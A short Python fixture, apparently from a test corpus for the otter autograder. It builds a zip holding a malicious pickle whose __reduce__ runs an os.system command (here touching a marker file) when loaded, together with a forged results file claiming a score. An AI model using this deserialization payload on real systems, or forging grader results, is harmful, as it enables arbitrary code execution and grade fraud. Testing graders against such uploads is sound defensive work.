"""Is a zip with a log for otter that is a pickle, and results of its own."""

import pickle

from attack_corpus import packed


class Bomb:
    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return __import__("os").system, (f"touch /tmp/{self.mark}-log",)


def build(wrong, planted):
    bomb = pickle.dumps(Bomb(planted["mark"]))
    return {
        "log.zip": packed(
            {
                ".OTTER_LOG": bomb,
                "results.pkl": bomb,
                "results.json": b'{"score": 40}',
                "q1_convolution.py": wrong.encode(),
            }
        )
    }
